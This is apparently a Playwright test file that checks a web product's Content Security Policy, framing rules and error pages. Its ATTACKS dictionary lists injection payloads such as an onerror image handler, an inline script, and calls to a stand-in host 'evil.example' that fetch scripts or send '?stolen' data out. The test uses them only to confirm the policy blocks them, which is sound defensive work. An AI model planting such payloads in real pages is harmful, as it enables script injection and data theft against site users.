"""The served product in a real browser: its policy hinders nothing of ours and everything else; who may embed it."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from opc.text import t
from tests.browser.seen import LANGUAGES, address
from tests.serving.conftest import Logged, logged_server, warehouse_that_fails

pytestmark = pytest.mark.browser
# What a text that became HTML, or a script in it, would try.
ATTACKS = {
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
    "inline": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hit = 1'}))",
    "address": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "picture": "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?stolen'}))",
    "request": "void fetch('https://evil.example/?stolen').catch(() => 0)",
    "socket": "try { new WebSocket('wss://evil.example/') } catch {}",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
    "eval": "setTimeout('window.hit = 1')",
    "style": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: 'https://evil.example/x.css'}))",
}


def test_the_policy_hinders_nothing_that_is_loaded_only_when_it_is_needed(reader, product):
    """Calendar, list of choices, folded table; what a page shows at once is seen in test_accessibility.py."""
    guest = reader(product)
    guest.open("compare")
    expect(guest.page.locator(".js-plotly-plot .annotation-text").first).to_be_visible()
    guest.page.get_by_test_id("stDateInput").get_by_role("button").last.click()
    expect(guest.page.get_by_role("grid").first).to_be_visible()
    guest.page.keyboard.press("Escape")
    guest.page.get_by_role("combobox").first.click()
    expect(guest.page.get_by_role("option").first).to_be_visible()
    guest.page.keyboard.press("Escape")
    guest.page.locator("summary").first.click()
    expect(guest.page.locator(".opc-table:visible").first).to_be_visible()
    assert guest.page.evaluate("window.opcSetUp") is True
    guest.assert_well()


def test_an_answer_in_sql_and_a_file_of_the_interface_are_taken_away_under_the_policy(reader, product):
    guest = reader(product)
    guest.open("explore?sql=select+name_zh,+population+from+city+limit+5")
    expect(guest.page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
    with guest.page.expect_download() as taken:
        guest.page.get_by_role("button", name="CSV").first.click()
    assert taken.value.failure() is None
    guest.assert_well()
    guest.follow("compare")
    with guest.page.expect_download() as taken:
        guest.page.locator('a[href*="/compare.zip"]').first.click()
    assert taken.value.failure() is None
    guest.assert_well()


def test_what_became_html_by_mistake_can_neither_act_nor_call_out(reader, product):
    guest = reader(product)
    asked: list[str] = []
    guest.open()
    guest.page.context.route(re.compile("evil"), lambda route: (asked.append(route.request.url), route.abort()))
    guest.page.evaluate(
        "window.refused = []; document.addEventListener('securitypolicyviolation',"
        " event => window.refused.push(event.effectiveDirective))"
    )
    unrefused = []
    for attack, script in ATTACKS.items():
        # The browser tells of it a moment later. Playwright's own waiting is an eval, which the policy refuses too.
        refused = guest.page.evaluate(
            f"async () => {{ window.refused.length = 0; {script}; const end = performance.now() + 2000;"
            " while (!window.refused.length && performance.now() < end) await new Promise(requestAnimationFrame);"
            # One that is told of twice is not taken for the next.
            " await new Promise(done => setTimeout(done, 50)); return window.refused; }"
        )
        unrefused += [] if refused else [attack]
    assert unrefused == []
    # What would act in spite of it has the time to.
    guest.page.wait_for_timeout(200)
    assert guest.page.evaluate("window.hit") is None
    assert asked == []


def test_another_site_may_embed_the_view_for_it_and_nothing_else(reader, product, portal):
    guest = reader(product)
    # Another name of the machine is another site to a browser, which keeps what it loads there apart.
    portal = portal.replace("localhost", "127.0.0.1")
    guest.page.goto(f"{portal}/{product}/compare?embed=true")
    frame = guest.page.frame_locator("iframe")
    expect(frame.locator("h1.opc-title")).to_be_visible()
    expect(frame.locator(".js-plotly-plot .annotation-text").first).to_be_visible()
    assert guest.complaints == []
    guest.page.goto(f"{portal}/{product}/compare")
    assert guest.page.frame_locator("iframe").locator("h1.opc-title").count() == 0
    assert any("frame-ancestors" in complaint for complaint in guest.complaints)


@pytest.fixture(scope="module")
def failing_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Logged]:
    """A server on which every page fails."""
    warehouse = warehouse_that_fails(tmp_path_factory.mktemp("failing"))
    with logged_server(warehouse, warehouse / "log") as server:
        yield server


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_page_that_fails_shows_a_sentence_with_a_reference_and_no_details(lang, reader, failing_server):
    guest = reader(failing_server.address)
    guest.page.goto(f"{failing_server.address}/{address('compare', lang)}")
    box = guest.page.get_by_role("alert").filter(has_text=re.compile("[0-9a-f]{8}"))
    expect(box).to_be_visible()
    reference = re.search("[0-9a-f]{8}", box.inner_text())[0]
    assert box.inner_text() == t("notice.failed", lang, reference=reference)
    assert guest.page.get_by_test_id("stException").count() == 0
    assert not re.search(r"Traceback|Catalog|\.py|duckdb", guest.page.inner_text("body"))
    assert any(reference in line for line in failing_server.lines())
